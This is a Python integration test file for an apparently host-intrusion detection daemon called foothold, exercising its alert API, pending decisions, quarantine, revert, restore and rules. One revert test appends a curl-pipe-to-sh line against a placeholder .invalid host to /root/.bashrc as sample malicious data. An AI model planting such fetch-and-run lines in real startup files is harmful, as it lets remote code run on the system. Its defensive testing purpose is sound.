#!/usr/bin/env python3
"""test_decide.py - root integration tests of answering alerts: the local API, pending
decisions and their default, rules, quarantine, revert and restore (issue 4).

Usage: test_decide.py BUILD [--sensor bpf|procconn]... [--only NAME]...

Each test makes a temp dir D (under /var/tmp, so that the quarantine store and the root
share a filesystem) holding a temp root R = D/r, a config D/foothold.conf whose
[decisions] paths all point into D (rules_dir, learned_rules, quarantine_dir, state_dir,
socket: never /var/lib/foothold or /run/foothold), and starts
`BUILD/foothold run -c CONF --root R --json --log-file D/alerts.json --no-journald
--sensor S`. It speaks the API (docs/PROTOCOL.md, "The local API": a 4-byte big-endian
length, then one JSON object) through a small client below, makes changes with a python
writer whose pid it knows, and checks the API's messages, the alert log and the files.
One line per test and sensor on stdout: "PASS root/S/decide-NAME", "FAIL ...: reason" or
"SKIP ..."; details on stderr. Exits 1 if any failed.
"""

import base64
import datetime
import errno
import hashlib
import json
import os
import random
import re
import shutil
import signal
import socket
import stat
import struct
import subprocess
import sys
import tempfile
import threading
import time
import traceback
import uuid

from harness import Fail, Foothold, Skip, check

READY_TIMEOUT = 20.0
WAIT = 5.0  # seconds to wait for an alert or a message that should come at once
PY = os.path.realpath(sys.executable)
NOBODY = 65534

# The writer: python, writing argv[2] (base64) to argv[1]; argv[3] "a" appends; argv[4]
# is the mode in octal.
WRITE_PY = ("import base64,os,sys\n"
            "p,c,f,m=sys.argv[1:5]\n"
            "fd=os.open(p,os.O_WRONLY|os.O_CREAT|(os.O_APPEND if 'a' in f else os.O_TRUNC),"
            "int(m,8))\n"
            "os.write(fd,base64.b64decode(c))\n"
            "os.close(fd)\n")

# A peer that drops to nobody (setresuid) and tries the API; prints what happened as JSON.
NOBODY_PY = r'''
import json, os, socket, struct, sys
os.setgroups([])
os.setresgid(65534, 65534, 65534)
os.setresuid(65534, 65534, 65534)
r = {"euid": os.geteuid(), "msgs": []}
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.settimeout(3)
try:
    s.connect(sys.argv[1])
    r["connect"] = 0
except OSError as e:
    r["connect"] = e.errno
    print(json.dumps(r))
    sys.exit(0)
body = json.dumps({"v": 1, "type": "status", "id": 1}).encode()
try:
    s.sendall(struct.pack(">I", len(body)) + body)
except OSError as e:
    r["send"] = e.errno
buf = b""
try:
    while True:
        b = s.recv(65536)
        if not b:
            r["end"] = "eof"
            break
        buf += b
except socket.timeout:
    r["end"] = "timeout"
except OSError as e:
    r["end"] = "errno %d" % e.errno
while len(buf) >= 4:
    n = struct.unpack(">I", buf[:4])[0]
    if len(buf) < 4 + n:
        break
    r["msgs"].append(json.loads(buf[4:4 + n]))
    buf = buf[4 + n:]
print(json.dumps(r))
'''


def marker(tag="m"):
    return "fh%s%s" % (tag, uuid.uuid4().hex[:12])


def js(x):
    return json.dumps(x, sort_keys=True)[:4000]


def sha(data):
    return hashlib.sha256(data).hexdigest()


def get(obj, dotted, default=None):
    """The value at a dotted path ("a.b.c"), or default."""
    for k in dotted.split("."):
        if not isinstance(obj, dict) or k not in obj:
            return default
        obj = obj[k]
    return obj


def read_bytes(path):
    with open(path, "rb") as f:
        return f.read()


# ---- the rules grammar, as far as the tests need it (docs/RULES.md) ----

def parse_rule_line(line):
    """(action, {key: value}) of one rule line; None for a comment or blank line; raises
    ValueError for a line that is not a whole rule (the grammar's shape: an action, then
    key=value words, quotes balanced with only \\" and \\\\ escapes)."""
    s = line.strip(" \t")
    if not s or s.startswith("#"):
        return None
    m = re.match(r"(allow|block|alert)(?=[ \t]|$)", s)
    if not m:
        raise ValueError("no action: %r" % line)
    action, i, keys = m.group(1), m.end(), {}
    while i < len(s):
        while i < len(s) and s[i] in " \t":
            i += 1
        if i >= len(s) or s[i] == "#":
            break
        m = re.compile(r"([a-z0-9_]+)=").match(s, i)
        if not m:
            raise ValueError("no key=value at column %d: %r" % (i + 1, line))
        key, i = m.group(1), m.end()
        if i < len(s) and s[i] == '"':
            i, val = i + 1, ""
            while True:
                if i >= len(s):
                    raise ValueError("unterminated quote: %r" % line)
                if s[i] == "\\":
                    if i + 1 >= len(s) or s[i + 1] not in '"\\':
                        raise ValueError("bad escape: %r" % line)
                    val += s[i + 1]
                    i += 2
                elif s[i] == '"':
                    i += 1
                    break
                else:
                    val += s[i]
                    i += 1
        else:
            j = i
            while j < len(s) and s[j] not in " \t":
                if s[j] == '"':
                    raise ValueError("quote inside an unquoted value: %r" % line)
                j += 1
            val, i = s[i:j], j
        if not val or key in keys:
            raise ValueError("empty or duplicate value: %r" % line)
        keys[key] = val
    return action, keys


def parse_rules_text(text):
    """The rules of a file's text: [(action, keys)]; ValueError when not whole rules."""
    if text and not text.endswith("\n"):
        raise ValueError("the file does not end with a newline (a partial last line)")
    out = []
    for line in text.split("\n"):
        r = parse_rule_line(line)
        if r:
            out.append(r)
    return out


# ---- the API client ----

class Client:
    """One connection to the daemon's API: send a frame, read frames with a timeout.
    Messages that are not the reply being waited for are kept in inbox, in order."""

    def __init__(self, path, timeout=WAIT):
        self.s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.s.settimeout(timeout)
        self.s.connect(path)
        self.buf = b""
        self.inbox = []
        self.next_id = 100

    def close(self):
        self.s.close()

    def send(self, msg):
        body = json.dumps(dict({"v": 1}, **msg)).encode()
        self.s.sendall(struct.pack(">I", len(body)) + body)

    def recv(self, timeout):
        """The next frame as a dict; None at end of file; raises socket.timeout."""
        deadline = time.monotonic() + timeout
        while True:
            if len(self.buf) >= 4:
                n = struct.unpack(">I", self.buf[:4])[0]
                if len(self.buf) >= 4 + n:
                    body, self.buf = self.buf[4:4 + n], self.buf[4 + n:]
                    msg = json.loads(body)
                    check(isinstance(msg, dict) and msg.get("v") == 1 and
                          isinstance(msg.get("type"), str),
                          "a frame without v 1 and a type", body[:500])
                    return msg
            left = deadline - time.monotonic()
            if left <= 0:
                raise socket.timeout()
            self.s.settimeout(left)
            b = self.s.recv(1 << 16)
            if not b:
                return None
            self.buf += b

    def request(self, typ, timeout=WAIT, **fields):
        """Sends a request with a fresh id; returns its reply (of its type, or error)."""
        self.next_id += 1
        rid = self.next_id
        self.send(dict(fields, type=typ, id=rid))
        deadline = time.monotonic() + timeout
        while True:
            try:
                m = self.recv(max(0.0, deadline - time.monotonic()))
            except socket.timeout:
                raise Fail("no reply to %s within %gs" % (typ, timeout))
            check(m is not None, "the daemon closed the connection instead of answering %s"
                  % typ)
            if m.get("id") == rid:
                check(m["type"] in (typ, "error"), "reply of type %r to %s" % (m["type"], typ),
                      js(m))
                return m
            self.inbox.append(m)

    def ok(self, typ, **fields):
        m = self.request(typ, **fields)
        check(m["type"] == typ, "%s answered with an error: %s" % (typ, m.get("error")),
              js(m))
        return m

    def wait(self, pred, what, timeout=WAIT):
        """The first message (kept or new) for which pred is true; it leaves the inbox."""
        for i, m in enumerate(self.inbox):
            if pred(m):
                return self.inbox.pop(i)
        deadline = time.monotonic() + timeout
        while True:
            try:
                m = self.recv(max(0.0, deadline - time.monotonic()))
            except socket.timeout:
                raise Fail("no %s within %gs" % (what, timeout),
                           *[js(x) for x in self.inbox[-5:]])
            check(m is not None, "the daemon closed the connection while waiting for %s"
                  % what)
            if pred(m):
                return m
            self.inbox.append(m)

    def alert_at(self, path, timeout=WAIT):
        return self.wait(lambda m: m["type"] == "alert" and
                         get(m, "alert.file.path") == path,
                         "alert message for %s" % path, timeout)

    def decided(self, alert_id, timeout=WAIT):
        return self.wait(lambda m: m["type"] == "decided" and m.get("alert_id") == alert_id,
                         "decided message for %s" % alert_id, timeout)


# ---- a test's directory, config and daemon ----

class Env:
    """D: the root R, the state dir, the rules dir, the config and the log."""

    def __init__(self, ctx, tag, **decisions):
        self.ctx = ctx
        self.dir = os.path.realpath(tempfile.mkdtemp(prefix="%s-" % tag, dir=ctx.base))
        os.chmod(self.dir, 0o755)
        self.root = os.path.join(self.dir, "r")
        for d in ("etc/cron.d", "root"):
            os.makedirs(os.path.join(self.root, d))
        with open(self.host("/etc/passwd"), "w") as f:
            f.write("root:x:0:0:root:/root:/bin/bash\n")
        self.state = os.path.join(self.dir, "st")
        os.mkdir(self.state)
        os.chmod(self.state, 0o755)  # so that only the socket's own mode keeps others out
        self.rules_dir = os.path.join(self.dir, "rules.d")
        os.mkdir(self.rules_dir)
        self.learned = os.path.join(self.state, "learned.rules")
        self.qdir = os.path.join(self.state, "quarantine")
        self.sock = os.path.join(self.state, "api.sock")
        self.log = os.path.join(self.dir, "alerts.json")
        self.conf = os.path.join(self.dir, "foothold.conf")
        self.configure(**decisions)

    def configure(self, timeout=30, default="allow", passive=False, max_pending=None):
        lines = ["[general]",
                 "pid_file = %s" % os.path.join(self.dir, "foothold.pid"),
                 "[decisions]",
                 "passive = %s" % ("yes" if passive else "no"),
                 "timeout = %d" % timeout,
                 "default = %s" % default,
                 "rules_dir = %s" % self.rules_dir,
                 "learned_rules = %s" % self.learned,
                 "quarantine_dir = %s" % self.qdir,
                 "state_dir = %s" % self.state,
                 "socket = %s" % self.sock]
        if max_pending:
            lines.append("max_pending = %d" % max_pending)
        with open(self.conf, "w") as f:
            f.write("\n".join(lines) + "\n")

    def host(self, rel):
        return self.root + rel

    def rules_file(self, name, text):
        p = os.path.join(self.rules_dir, name)
        with open(p, "w") as f:
            f.write(text)
        return p

    def argv(self, sensor):
        return [self.ctx.foothold, "run", "-c", self.conf, "--root", self.root, "--json",
                "--log-file", self.log, "--no-journald", "--sensor", sensor]

    def daemon(self, sensor):
        d = Foothold(self.argv(sensor), "foothold run", READY_TIMEOUT)
        self.ctx.daemons.append(d)
        return d

    def client(self):
        return Client(self.sock)

    def write(self, rel, data, append=False, perm=0o644, may_deny=False):
        """The python writer writes data to R/rel; returns its pid (and with may_deny,
        whether a permission event refused it: EPERM from its open)."""
        argv = [PY, "-S", "-c", WRITE_PY, self.host(rel), base64.b64encode(data).decode(),
                "a" if append else "w", "%o" % perm]
        p = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                             stderr=subprocess.PIPE)
        _, err = p.communicate(timeout=30)
        denied = p.returncode != 0 and b"PermissionError" in err
        check(p.returncode == 0 or (may_deny and denied),
              "the writer exited %d" % p.returncode, err)
        return (p.pid, denied) if may_deny else p.pid

    def records(self):
        """The alert records of the log, in order."""
        try:
            with open(self.log, "rb") as f:
                data = f.read()
        except FileNotFoundError:
            return []
        out = []
        for line in data.split(b"\n"):
            if line.strip():
                e = json.loads(line)
                if get(e, "event.kind") == "alert":
                    out.append(e)
        return out

    def at(self, rel):
        return [e for e in self.records() if get(e, "file.path") == rel]

    def wait_log(self, pred, what, timeout=WAIT):
        """The first log record for which pred is true, waiting for it."""
        deadline = time.monotonic() + timeout
        while True:
            for e in self.records():
                if pred(e):
                    return e
            if time.monotonic() > deadline:
                raise Fail("no log record: %s within %gs" % (what, timeout),
                           *[js(e) for e in self.records()[-4:]])
            time.sleep(0.02)

    def wait_outcome(self, rel, outcome, timeout=WAIT):
        return self.wait_log(lambda e: get(e, "file.path") == rel and
                             get(e, "event.outcome") == outcome,
                             "%s with event.outcome %s" % (rel, outcome), timeout)

    def qlist(self, c):
        return c.ok("quarantine.list")["entries"]


def check_pending(env, msg, rel, pid, timeout_s):
    """An alert message that is pending, with a deadline about timeout_s away, by pid."""
    check(msg.get("pending") is True, "alert for %s without pending true" % rel, js(msg))
    check(isinstance(msg.get("alert_id"), str) and msg["alert_id"], "alert without alert_id",
          js(msg))
    check(get(msg, "alert.foothold.alert.id") == msg["alert_id"],
          "alert_id %r is not the record's foothold.alert.id %r" %
          (msg["alert_id"], get(msg, "alert.foothold.alert.id")))
    check(get(msg, "alert.event.outcome") == "pending",
          "the alert's event.outcome %r, expected pending" % get(msg, "alert.event.outcome"))
    check(get(msg, "alert.process.pid") == pid, "process.pid %r, expected the writer %d" %
          (get(msg, "alert.process.pid"), pid), js(msg))
    check(get(msg, "alert.process.executable") == PY, "process.executable %r, expected %r" %
          (get(msg, "alert.process.executable"), PY))
    try:
        dl = datetime.datetime.fromisoformat(msg["deadline"].replace("Z", "+00:00"))
    except (KeyError, ValueError, AttributeError):
        raise Fail("pending alert without an RFC 3339 deadline", js(msg))
    left = (dl - datetime.datetime.now(datetime.timezone.utc)).total_seconds()
    check(timeout_s - 3 <= left <= timeout_s + 1,
          "deadline %s is %.1fs away, expected about %ds" % (msg["deadline"], left, timeout_s))


# ---- the tests ----

def t_api_refuses_nonroot(ctx, sensor):
    env = Env(ctx, "nonroot")
    m = marker("nr")
    with env.daemon(sensor):
        a = env.client()
        a.ok("subscribe")

        def nobody():
            p = subprocess.run([PY, "-S", "-c", NOBODY_PY, env.sock], capture_output=True,
                               timeout=20, stdin=subprocess.DEVNULL)
            check(p.returncode == 0, "the nobody peer exited %d" % p.returncode, p.stderr)
            r = json.loads(p.stdout)
            check(r["euid"] == NOBODY, "the peer runs as %r, not nobody" % r["euid"])
            return r

        # The file mode is the first gate.
        mode = stat.S_IMODE(os.stat(env.sock).st_mode)
        check(mode & 0o007 == 0, "the socket is mode %o: others may connect" % mode)
        r = nobody()
        check(r["connect"] == errno.EACCES, "nobody's connect gave %r, expected EACCES" %
              r.get("connect"), js(r))
        # A mode loosened by mistake: the credential check refuses the peer all the same.
        os.chmod(env.sock, 0o666)
        r = nobody()
        check(r["connect"] == 0, "with mode 0666 nobody could not connect (%r); the test "
              "needs it to reach the credential check" % r["connect"], js(r))
        check(all(x.get("type") == "error" for x in r["msgs"]),
              "a refused peer got a message other than error", js(r))
        check(r.get("end") in ("eof", "errno %d" % errno.ECONNRESET),
              "a refused peer's connection was not closed (%r)" % r.get("end"), js(r))
        # The root client is undisturbed: it is answered and still gets alerts.
        st = a.ok("status")
        check(st.get("protocol") == 1, "status protocol %r" % st.get("protocol"), js(st))
        rel = "/etc/cron.d/%s" % m
        pid = env.write(rel, b"* * * * * root true\n")
        check_pending(env, a.alert_at(rel), rel, pid, 30)
        b = env.client()  # and a new root client is accepted
        b.ok("status")
        # The refusal is counted (docs/PROTOCOL.md: status carries the API counters).
        counted = None
        try:
            st = b.ok("status")
            check(get(st, "api.refused_cred") == 1,
                  "status api.refused_cred is %r after one refused peer, expected 1 (the "
                  "EACCES one never reached the daemon)" % get(st, "api.refused_cred"),
                  js(st))
        except Fail as e:
            counted = e
    return {"api-refuses-nonroot": None, "api-refusal-counted": counted}


def t_pending_then_user_block(ctx, sensor):
    env = Env(ctx, "block")
    m = marker("pb")
    rel = "/etc/cron.d/%s" % m
    data = b"# %s\n*/5 * * * * root /usr/bin/true %s\n" % (m.encode(), m.encode())
    with env.daemon(sensor):
        a, b = env.client(), env.client()
        a.ok("subscribe")
        b.ok("subscribe", filters={"types": ["cron-d"]})
        pid = env.write(rel, data, perm=0o640)
        msg = a.alert_at(rel)
        check_pending(env, msg, rel, pid, 30)
        aid = msg["alert_id"]
        check(b.alert_at(rel)["alert_id"] == aid, "the second subscriber got another alert_id")
        first = env.wait_outcome(rel, "pending")
        check(get(first, "foothold.alert.id") == aid, "the pending log line has alert id %r, "
              "expected %r" % (get(first, "foothold.alert.id"), aid))
        check("decided_by" not in first.get("foothold", {}),
              "a pending log line says decided_by", js(first))
        check(os.path.exists(env.host(rel)), "the item is gone before anyone decided")

        rep = a.ok("decide", alert_id=aid, action="block", remember="none")
        check(rep.get("alert_id") == aid and rep.get("action") == "block",
              "decide reply %s" % js(rep))
        for who, c in (("the deciding", a), ("the second", b)):
            d = c.decided(aid)
            check(d.get("decided_by") == "user" and d.get("action") == "block" and
                  d.get("uid") == 0,
                  "%s subscriber's decided message: %s" % (who, js(d)))
        check(not os.path.lexists(env.host(rel)), "the blocked item is still at %s" % rel)
        again = a.request("decide", alert_id=aid, action="allow")
        check(again["type"] == "error", "deciding an alert twice was accepted", js(again))

        q = [e for e in env.qlist(a) if e.get("path") == rel]
        check(len(q) == 1, "%d quarantine entries for %s, expected 1" % (len(q), rel),
              js(env.qlist(a)))
        q = q[0]
        check(q.get("sha256") == sha(data), "the entry's sha256 is not that of the bytes "
              "written", js(q))
        check(q.get("kind") == "new" and q.get("size") == len(data) and
              q.get("mode") & 0o7777 == 0o640,
              "the entry's kind/size/mode: %s" % js(q))
        second = env.wait_log(lambda e: get(e, "foothold.alert.id") == aid and
                              get(e, "event.outcome") != "pending",
                              "the decided record of %s" % aid)
        check(get(second, "event.outcome") == "quarantined" and
              get(second, "foothold.decided_by") == "user",
              "the decided record: outcome %r, decided_by %r" %
              (get(second, "event.outcome"), get(second, "foothold.decided_by")), js(second))
        check(get(second, "foothold.quarantine.id") == q["qid"],
              "the decided record names quarantine id %r, the store %r" %
              (get(second, "foothold.quarantine.id"), q["qid"]))
        check(len([e for e in env.at(rel) if get(e, "foothold.alert.id") == aid]) == 2,
              "expected exactly two log lines for alert %s" % aid,
              *[js(e) for e in env.at(rel)])

        rep = a.ok("quarantine.restore", qid=q["qid"])
        check(rep.get("path") == rel, "restore reply path %r" % rep.get("path"))
        check(read_bytes(env.host(rel)) == data, "the restored file differs from what was "
              "written")
        st = os.lstat(env.host(rel))
        check(stat.S_ISREG(st.st_mode) and stat.S_IMODE(st.st_mode) == 0o640 and
              st.st_uid == 0 and st.st_gid == 0,
              "restored with mode %o uid %d gid %d, expected 0640 0 0" %
              (st.st_mode, st.st_uid, st.st_gid))
        again = a.request("quarantine.restore", qid=q["qid"])
        check(again["type"] == "error", "restoring twice was accepted", js(again))
        check(not [e for e in env.qlist(a) if e.get("qid") == q["qid"]],
              "the entry is still listed after its restore")


def t_revert_modified(ctx, sensor):
    env = Env(ctx, "revert")
    m = marker("rv")
    rel = "/root/.bashrc"
    old = b"# .bashrc %s\nexport PS1='$ '\nalias ll='ls -l'\n" % m.encode()
    added = b"curl -s http://%s.invalid/x | sh\n" % m.encode()
    with open(env.host(rel), "wb") as f:
        f.write(old)
    os.chmod(env.host(rel), 0o600)
    with env.daemon(sensor):
        c = env.client()
        c.ok("subscribe")
        pid = env.write(rel, added, append=True)
        msg = c.alert_at(rel)
        check_pending(env, msg, rel, pid, 30)
        aid = msg["alert_id"]
        check(read_bytes(env.host(rel)) == old + added, "the append did not happen")
        c.ok("decide", alert_id=aid, action="block")
        d = c.decided(aid)
        check(d.get("decided_by") == "user", "decided message %s" % js(d))
        check(read_bytes(env.host(rel)) == old, "after block .bashrc is not the old bytes",
              read_bytes(env.host(rel))[:500])
        st = os.lstat(env.host(rel))
        check(stat.S_ISREG(st.st_mode) and stat.S_IMODE(st.st_mode) == 0o600,
              "reverted with mode %o, expected 0600" % st.st_mode)
        q = [e for e in env.qlist(c) if e.get("path") == rel]
        check(len(q) == 1 and q[0].get("kind") == "modified" and
              q[0].get("sha256") == sha(old + added),
              "the store does not hold the modified version as kind modified", js(q))
        rec = env.wait_log(lambda e: get(e, "foothold.alert.id") == aid and
                           get(e, "event.outcome") != "pending", "the decided record")
        check(get(rec, "event.outcome") == "reverted" and
              get(rec, "foothold.decided_by") == "user",
              "decided record outcome %r decided_by %r" % (get(rec, "event.outcome"),
                                                          get(rec, "foothold.decided_by")),
              js(rec))


def t_default_on_timeout(ctx, sensor):
    for default, outcome in (("allow", "allowed"), ("block", "quarantined")):
        env = Env(ctx, "default-" + default, timeout=3, default=default)
        m = marker("dt")
        rel = "/etc/cron.d/%s" % m
        data = b"* * * * * root /bin/true # %s\n" % m.encode()
        with env.daemon(sensor):
            env.write(rel, data)
            t0 = time.monotonic()
            p = env.wait_outcome(rel, "pending")
            aid = get(p, "foothold.alert.id")
            rec = env.wait_log(lambda e: get(e, "foothold.alert.id") == aid and
                               get(e, "event.outcome") != "pending",
                               "a decided record (default=%s)" % default, timeout=9)
            took = time.monotonic() - t0
            check(2.5 <= took <= 6.0, "default=%s applied after %.1fs, expected about 3s" %
                  (default, took))
            check(get(rec, "foothold.decided_by") == "default" and
                  get(rec, "event.outcome") == outcome,
                  "default=%s: decided_by %r outcome %r, expected default %s" %
                  (default, get(rec, "foothold.decided_by"), get(rec, "event.outcome"),
                   outcome), js(rec))
            check(os.path.exists(env.host(rel)) == (default == "allow"),
                  "default=%s: the item %s" % (default, "is gone" if default == "allow"
                                                 else "is still there"))
            if default == "block":
                c = env.client()
                q = [e for e in env.qlist(c) if e.get("path") == rel]
                check(len(q) == 1 and q[0].get("sha256") == sha(data),
                      "the default block left no quarantine entry", js(q))


def t_queued_restart(ctx, sensor):
    """Three alerts while no client is connected, a restart, then a client: the queued
    alerts come oldest first and can be decided; a new alert after the restart gets an id
    of its own. The checks after the restart are gathered, so that one report names every
    problem."""
    env = Env(ctx, "queue", timeout=60)
    m = marker("qr")
    rels = ["/etc/cron.d/%s-%d" % (m, i) for i in (1, 2, 3)]
    datas = [b"* * * * * root /bin/true %s %d\n" % (m.encode(), i) for i in (1, 2, 3)]
    ids = []
    d = env.daemon(sensor).start()
    try:
        for rel, data in zip(rels, datas):
            env.write(rel, data)
            ids.append(get(env.wait_outcome(rel, "pending"), "foothold.alert.id"))
        d.finish(signal.SIGINT, 0.1)
    finally:
        d.kill()
    for rel in rels:
        check(os.path.exists(env.host(rel)), "%s is gone although nobody decided" % rel)
        check(len(env.at(rel)) == 1, "%s was decided while no client was connected" % rel,
              *[js(e) for e in env.at(rel)])
    problems = []
    with env.daemon(sensor):
        c = env.client()
        c.ok("subscribe")
        got = []
        while len(got) < len(rels):
            x = c.wait(lambda x: x["type"] == "alert" and get(x, "alert.file.path") in rels,
                       "the queued alerts after a restart")
            got.append(x)
        order = [rels.index(get(x, "alert.file.path")) + 1 for x in got]
        if order != [1, 2, 3]:
            problems.append("the queued alerts came in the order %r of their writes, "
                            "expected the oldest first" % order)
        for x in got:
            if not (x.get("pending") is True and "deadline" in x):
                problems.append("a queued alert is not pending with a deadline: %s" % js(x))
            if x["alert_id"] != ids[rels.index(get(x, "alert.file.path"))]:
                problems.append("a queued alert changed its id across the restart")
        # A new alert after the restart: its id must be new.
        new = "/etc/cron.d/%s-new" % m
        pid = env.write(new, b"* * * * * root /bin/true new\n")
        nmsg = c.alert_at(new)
        check_pending(env, nmsg, new, pid, 60)
        if nmsg["alert_id"] in ids:
            problems.append("the first alert after the restart got id %s, the id of a queued "
                            "alert of the previous run" % nmsg["alert_id"])
        for aid, action in zip(ids, ("allow", "block", "allow")):
            r = c.request("decide", alert_id=aid, action=action)
            if r["type"] != "decide":
                problems.append("decide %s %s: %s" % (action, aid, r.get("error")))
        for rel, want in zip(rels, (True, False, True)):
            if os.path.lexists(env.host(rel)) != want:
                problems.append("after deciding the queued alerts %s is %s" %
                                (rel, "there" if not want else "gone"))
        for aid, rel, want in zip(ids, rels, ("allowed", "quarantined", "allowed")):
            decided = [e for e in env.at(rel) if get(e, "foothold.alert.id") == aid and
                       get(e, "event.outcome") != "pending"]
            if not (len(decided) == 1 and get(decided[0], "event.outcome") == want and
                    get(decided[0], "foothold.decided_by") == "user"):
                problems.append("queued alert %s at %s: decided records %r, expected one "
                                "%s by user" % (aid, rel,
                                                [(get(e, "event.outcome"),
                                                  get(e, "foothold.decided_by"))
                                                 for e in decided], want))
        r = c.request("decide", alert_id=nmsg["alert_id"], action="allow")
        if r["type"] != "decide":
            problems.append("deciding the new alert %s: %s" % (nmsg["alert_id"],
                                                             r.get("error")))
        if not os.path.exists(env.host(new)):
            problems.append("the new alert's item is gone after allow")
        pending = c.ok("status").get("pending")
        if pending != 0:
            problems.append("%r alerts still pending after all were decided" % pending)
    check(not problems, "; ".join(problems), *problems)


def t_rules_file(ctx, sensor):
    """Rules in rules.d: allow by the writer's program, block by a path glob."""
    env = Env(ctx, "rules")
    m = marker("ru")
    f = env.rules_file("10-test.rules",
                       "allow exe=%s type=cron-d\nblock path=/etc/cron.d/blk%s*\n" % (PY, m))
    with env.daemon(sensor):
        c = env.client()
        c.ok("subscribe")
        rel = "/etc/cron.d/%s" % m
        pid = env.write(rel, b"* * * * * root /bin/true\n")
        msg = c.alert_at(rel)
        check(not msg.get("pending") and "deadline" not in msg,
              "an alert decided by a rule was sent as pending", js(msg))
        check(get(msg, "alert.process.pid") == pid, "allow rule: process.pid %r" %
              get(msg, "alert.process.pid"))
        rec = env.wait_log(lambda e: get(e, "file.path") == rel, "the alert at %s" % rel)
        check(get(rec, "foothold.decided_by") == "rule" and
              get(rec, "event.outcome") == "allowed" and
              get(rec, "foothold.rule.source") == "%s:1" % f,
              "allow rule: decided_by %r outcome %r rule.source %r, expected rule allowed "
              "%s:1" % (get(rec, "foothold.decided_by"), get(rec, "event.outcome"),
                        get(rec, "foothold.rule.source"), f), js(rec))
        check(os.path.exists(env.host(rel)), "an allowed item is gone")

        # Renamed into place (a rename cannot be refused up front): quarantined at once.
        blk = "/etc/cron.d/blk%s" % m
        stage = env.host("/stage-%s" % m)
        with open(stage, "w") as fp:
            fp.write("* * * * * root /bin/true\n")
        p = subprocess.run(["mv", stage, env.host(blk)], timeout=10, capture_output=True)
        check(p.returncode == 0, "mv into cron.d failed", p.stderr)
        msg = c.alert_at(blk)
        check(not msg.get("pending"), "an alert blocked by a rule was sent as pending",
              js(msg))
        check(not os.path.lexists(env.host(blk)), "the block rule left the item in place")
        rec = env.wait_log(lambda e: get(e, "file.path") == blk, "the alert at %s" % blk)
        check(get(rec, "foothold.decided_by") == "rule" and
              get(rec, "event.outcome") == "quarantined" and
              get(rec, "foothold.rule.source") == "%s:2" % f,
              "block rule, renamed in: decided_by %r outcome %r rule.source %r, expected "
              "rule quarantined %s:2" %
              (get(rec, "foothold.decided_by"), get(rec, "event.outcome"),
               get(rec, "foothold.rule.source"), f), js(rec))
        # Created in place by another program: refused up front (pre-emptive deny) or
        # quarantined at once; either way by the rule, and the item is not there.
        blk2 = "/etc/cron.d/blk%s-2" % m
        p = subprocess.run(["sh", "-c", 'printf "%s" "$1" > "$2"', "sh",
                            "* * * * * root /bin/true\n", env.host(blk2)], timeout=10,
                           capture_output=True)
        denied = p.returncode != 0
        check(not denied or b"not permitted" in p.stderr, "sh failed otherwise", p.stderr)
        rec = env.wait_log(lambda e: get(e, "file.path") == blk2, "the alert at %s" % blk2)
        check(get(rec, "foothold.decided_by") == "rule" and
              get(rec, "event.outcome") == ("denied" if denied else "quarantined") and
              get(rec, "foothold.rule.source") == "%s:2" % f,
              "block rule, created (%s): decided_by %r outcome %r rule.source %r" %
              ("refused" if denied else "written", get(rec, "foothold.decided_by"),
               get(rec, "event.outcome"), get(rec, "foothold.rule.source")), js(rec))
        check(not os.path.lexists(env.host(blk2)), "the block rule left %s in place%s" %
              (blk2, " (an empty file after a refused create)" if denied else ""))
        time.sleep(0.2)
        for r in (rel, blk, blk2):
            outs = [get(e, "event.outcome") for e in env.at(r)]
            check("pending" not in outs and len(outs) == 1,
                  "a rule-decided alert at %s has log lines %r" % (r, outs))

def t_rules_error(ctx, sensor):
    """A rule file with an error: the daemon refuses to start and names file:line:col."""
    env = Env(ctx, "rules-bad")
    env.rules_file("10-ok.rules", "allow exe=/usr/bin/true\n")
    bad = env.rules_file("20-bad.rules", "# a comment\nallow exe_sha=1 type=cron-d\n")
    p = subprocess.run(env.argv(sensor), stdin=subprocess.DEVNULL, capture_output=True,
                       timeout=30)
    err = p.stderr.decode("utf-8", "replace")
    check(p.returncode != 0 and "foothold: ready" not in err,
          "the daemon started (rc %d) with a bad rule file" % p.returncode, err)
    check("%s:2:7:" % bad in err, "stderr does not name %s:2:7:" % bad, err)

def t_rules_api(ctx, sensor):
    """rules.add, rules.list and rules.delete over the API, on learned.rules."""
    env = Env(ctx, "rules-api")
    m = marker("ra")
    with env.daemon(sensor):
        c = env.client()
        learn = "/etc/cron.d/learn%s" % m
        rep = c.ok("rules.add", text="allow exe=/usr/bin/true path=%s" % learn)
        rid = rep.get("rule_id")
        check(isinstance(rid, str) and rid, "rules.add reply without rule_id", js(rep))
        rules = check_rules_file(ctx, env.learned)
        check(("allow", {"exe": "/usr/bin/true", "path": learn}) in rules,
              "learned.rules lacks the added rule", read_bytes(env.learned))
        lst = [r for r in c.ok("rules.list")["rules"] if r.get("rule_id") == rid]
        check(len(lst) == 1 and lst[0].get("source") == env.learned and
              parse_rule_line(lst[0].get("text", "")) ==
              ("allow", {"exe": "/usr/bin/true", "path": learn}),
              "rules.list does not show the added rule with its id", js(lst))
        e = c.request("rules.add", text="allow exe_sha=1")
        check(e["type"] == "error" and re.search(r":1:7:", e.get("error", "")),
              "a bad rule's error does not name line 1 column 7", js(e))
        c.ok("rules.delete", rule_id=rid)
        check(not [r for r in c.ok("rules.list")["rules"] if r.get("rule_id") == rid],
              "rules.list still shows the deleted rule")
        check(("allow", {"exe": "/usr/bin/true", "path": learn})
              not in check_rules_file(ctx, env.learned),
              "learned.rules still holds the deleted rule", read_bytes(env.learned))
        e = c.request("rules.delete", rule_id=rid)
        check(e["type"] == "error", "deleting a deleted rule was accepted", js(e))


def t_rules_remember(ctx, sensor):
    """decide with remember process+file learns a rule that decides the next such write."""
    env = Env(ctx, "rules-rem")
    m = marker("rr")
    with env.daemon(sensor):
        c = env.client()
        c.ok("subscribe")
        rem = "/etc/cron.d/rem%s" % m
        data = b"* * * * * root /bin/true %s\n" % m.encode()
        pid = env.write(rem, data)
        msg = c.alert_at(rem)
        check_pending(env, msg, rem, pid, 30)
        rep = c.ok("decide", alert_id=msg["alert_id"], action="block",
                   remember="process+file")
        rid = rep.get("rule_id")
        check(isinstance(rid, str) and rid, "decide with remember gave no rule_id", js(rep))
        d = c.decided(msg["alert_id"])
        check(d.get("remember") == "process+file", "decided message remember %r" %
              d.get("remember"), js(d))
        learned = [r for r in check_rules_file(ctx, env.learned)
                   if r[1].get("exe") == PY and r[1].get("path") == rem]
        check(len(learned) == 1 and learned[0][0] == "block",
              "learned.rules has no block rule with exe=%s path=%s" % (PY, rem),
              read_bytes(env.learned))
